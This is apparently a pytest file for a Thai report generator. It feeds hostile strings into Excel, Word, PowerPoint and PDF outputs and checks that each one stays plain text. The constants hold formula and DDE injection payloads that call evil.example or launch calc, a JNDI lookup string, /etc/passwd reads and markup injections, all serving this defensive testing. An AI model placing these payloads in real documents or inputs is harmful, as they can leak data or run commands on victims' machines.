"""Texts of cells built to act: in every document they stay text, and what cannot be shown is taken out and said."""

from dataclasses import replace
from decimal import Decimal
from io import BytesIO
from itertools import cycle

import openpyxl
import pytest

from ita_core.analysis.years import Event
from ita_core.documents.output import LONGEST, Cleaner
from ita_core.documents.saved_workbook import saved_workbook
from ita_core.findings import Finding
from ita_core.framework import load
from ita_core.narrative.edits import addresses, text_key
from ita_core.narrative.story import narrate
from ita_core.office import CHECK_INS, CheckIn, Correction, Measure, Plan, Work, first_month, last_month
from ita_core.scoring import History, assess, history_of
from ita_core.text import text_in
from ita_core.workbook.reading import Agency
from tests.documents.conftest import make_all
from tests.documents.extract import all_text, parts, tags
from tests.hostile import HOSTILE as LETTERS_ONLY
from tests.samples import reading_of

STARTS = ["=", "+", "-", "@", "\t=", "\r\n=", "|", "%", " =", "'=", "＝", "=\x00"]
BODIES = [
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
]
MARKUP = [
    'http://evil.example/x', 'https://evil.example', 'mailto:a@evil.example', 'file:///etc/passwd', '\\\\evil\\share',
    'javascript:alert(1)', '<script>alert(1)</script>', '</w:t></w:r><w:r><w:t>x', '&lt;&amp;&#0;', ']]>', '<!--',
    '<?xml?>', '{ HYPERLINK "http://evil.example" }', '{ INCLUDETEXT "c:\\\\secret" }', '{{template}}',
    '${jndi:ldap://evil.example}', '_x000D_', '_x003D_1+1', '#link("http://evil.example")[x]', '#import "x.typ"',
    '#read("/etc/passwd")', '$x^2$', '*bold* _it_ `code`', '#set page(width: 1cm)', '\\begin{x}', '%s%n{0}{year}',
    '&C&P', '&[Page]', '\u202egnp.exe', '\u2066x', '\ufffe', '\uffff', '\U000e0041', 'a\x07b\x1bc\x0bd',
    '\x85\u2028\u2029', '\u200b\u200d', '\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467', "ก็่้๊๋" * 30,
    "ยาว" * 4000, "W" * 5000, 'น้ำ ที่ ปู่ ญี่ปุ่น', '٠١٢', '', ' ', "'", '"', 'A1', 'TRUE', '#REF!', '1e308', '0x1F',
]  # fmt: skip
HOSTILE = (
    [start + body for start in STARTS for body in BODIES]
    + [prefix + text for text in MARKUP for prefix in ("", "=", "@")]
    + list(LETTERS_ONLY)
)


def history_with(texts) -> History:
    """A year of which every sheet and cell name, the agency, the file and the findings are hostile."""
    framework = load(2566)
    codes = [question.code for question in framework.questions]
    reading = reading_of(
        {2566: {code: Decimal(90 if code[0] != "o" else 100) for code in codes}}, {(2566, "rank"): texts[0]}
    )
    sheets = [texts[place % len(texts)] for place in range(len(codes))]
    cells = [texts[-1 - place % len(texts)] for place in range(len(codes))]
    reading = replace(
        reading, scores=reading.scores.assign(sheet=sheets, cell=cells), agency=Agency(texts[1]), file_name=texts[2]
    )
    findings = tuple(
        Finding(
            "score-out-of-range",
            sheet=text,
            cell="C4",
            value=text,
            fiscal_year=2566,
            facts={"code": "i1", "label": "i1"},
        )
        for text in texts
    )
    return History(reading.agency, reading.file_name, "0" * 64, (assess(reading, framework),), findings)


def work_with(texts, history) -> Work:
    """All that an office can add, every word of it hostile and as raw as if no form had tidied it."""
    turn = cycle(texts)
    plans = tuple(Plan(year, tuple(measure_with(turn, n, year) for n in range(1, 9))) for year in (2566, 2567))
    story = narrate(history, history.latest, text_in("th"))
    edits = [(2566, text_key("th", address), next(turn)) for address, _ in addresses(story)]
    around = [(2567, key, next(turn)) for key in ("intro", "outside", "limits", "handling")]
    return Work(
        answers=((next(turn), next(turn)),),
        corrections=(Correction(2566, "i1", None, Decimal(90)),),
        events=tuple(Event(2566, next(turn)) for _ in range(10)),
        wordings=((2566, "i1", next(turn)),),
        texts=(*edits, *around, (2567, next(turn), next(turn))),
        plans=plans,
    )


def measure_with(turn, number, year) -> Measure:
    return Measure(
        id=f"m{number}",
        issue=number % 8,
        title=next(turn),
        steps=(next(turn), next(turn), next(turn)),
        owner=next(turn),
        start=first_month(year),
        end=last_month(year),
        follow_up=next(turn),
        indicator_of_success=next(turn),
        evidence_link=next(turn),
        aims_at=("i1", "o24"),
        check_ins=tuple(CheckIn(months, next(turn), next(turn), next(turn)) for months in CHECK_INS),
    )


@pytest.fixture(scope="module")
def batches(th):
    """All hostile texts in batches that each document has room for, with the workbook that remembers."""
    size, found = 110, []
    for at in range(0, len(HOSTILE), size):
        history = history_with(HOSTILE[at : at + size])
        work = work_with(HOSTILE[at : at + size], history)
        made = make_all(history, th, work)
        found.append(made | {"saved-workbook": saved_workbook(history, work.events, work)})
    return found


def test_there_are_two_hundred_of_them():
    assert len(HOSTILE) >= 200


def test_no_text_becomes_a_formula_or_a_link_in_excel(batches):
    for data in (made[kind] for made in batches for kind in ("tables-excel", "saved-workbook")):
        book = openpyxl.load_workbook(BytesIO(data))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
        assert [cell.coordinate for cell in cells if cell.hyperlink] == []
        sheets = [tree for part, tree in parts(data).items() if "/worksheets/" in part]
        assert [el for sheet in sheets for el in sheet.iter() if el.tag.rpartition("}")[2] in ("f", "hyperlink")] == []


def test_no_text_becomes_a_field_or_a_link_in_word(batches, made):
    kinds = ("instrText", "fldSimple", "hyperlink")
    usual = {name: {_field(el) for found, el in tags(made["report-word"]) if found == name} for name in kinds}
    assert usual["fldSimple"] == set()
    for batch in batches:
        for name, el in tags(batch["report-word"]):
            if name in kinds:
                assert _field(el) in usual[name]


def _field(el) -> str:
    """The command of a field, and of a link only what kind of attribute it has."""
    words = (el.text or "").split()[:1]
    return " ".join(words) or ",".join(sorted(key.rpartition("}")[2] for key in el.attrib))


def test_no_text_becomes_a_link_or_an_action_on_a_slide(batches):
    acting = ("hlinkClick", "hlinkHover", "fld", "audioFile", "videoFile", "oleObj")
    for made in batches:
        own = [
            tree for part, tree in parts(made["council-powerpoint"]).items() if "/slides/" in part or "/notes" in part
        ]
        names = [name for tree in own for el in tree.iter() if (name := el.tag.rpartition("}")[2]) in acting]
        assert set(names) <= {"fld"}, names  # the notes' own slide number


def test_nothing_points_out_of_an_office_file(batches):
    for made in batches:
        for kind in ("report-word", "council-powerpoint", "tables-excel", "saved-workbook"):
            outside = [el.get("Target") for name, el in _relations(made[kind]) if el.get("TargetMode") == "External"]
            assert outside == []


def _relations(data):
    return [(name, el) for name, tree in parts(data, ".rels").items() if name.endswith(".rels") for el in tree]


def test_embedded_workbooks_of_charts_hold_no_formula(batches):
    for made in batches:
        for kind in ("report-word", "council-powerpoint"):
            inner = [el for part, tree in parts(made[kind]).items() if "!" in part for el in tree.iter()]
            assert [el for el in inner if el.tag.rpartition("}")[2] in ("f", "hyperlink")] == []


def test_a_pdf_has_no_link_out(batches, poppler):
    for made in batches:
        for kind in ("report-pdf", "handout-pdf"):
            assert "evil" not in poppler("pdfinfo", made[kind], "-url")


def test_the_handout_stays_on_two_pages(batches, poppler):
    for made in batches:
        assert "Pages:           2" in poppler("pdfinfo", made["handout-pdf"])


def test_what_was_taken_out_is_said(th):
    made = make_all(history_with(["ชื่อ\x07ไฟล์", "เทศบาล\x00\u202eทดสอบ", "a.xlsx"]), th)
    for kind in ("report-word", "tables-excel"):
        text = all_text(made[kind])
        assert "อักขระควบคุมที่เอกสารแสดงไม่ได้" in text
        assert "เทศบาลทดสอบ" in text


def test_clean_texts_are_left_as_they_are():
    clean = Cleaner()
    assert clean("น้ำ ที่ญี่ปุ่น 92.16 ✔ 😀") == "น้ำ ที่ญี่ปุ่น 92.16 ✔ 😀"
    assert (clean.removed, clean.shortened) == (0, 0)


def test_control_characters_go_and_are_counted_line_ends_become_spaces():
    clean = Cleaner()
    assert clean("a\x00\x1b\u202e\ud800b\r\nc\td") == "ab c d"
    assert clean.removed == 4


def test_an_over_long_text_ends_in_an_ellipsis():
    clean = Cleaner()
    short = clean("ก" * (LONGEST + 1))
    assert (len(short), short[-1], clean.shortened) == (LONGEST, "…", 1)
    assert clean("ก" * LONGEST) == "ก" * LONGEST


def test_a_year_without_any_score_still_makes_every_document(th):
    reading = reading_of({2566: {"TOTAL": "84.00"}})
    made = make_all(history_of(reading), th)
    assert all(made.values())
    assert "ไม่มีข้อคำถามที่ต่ำกว่าค่าเป้าหมาย" not in all_text(made["council-powerpoint"])
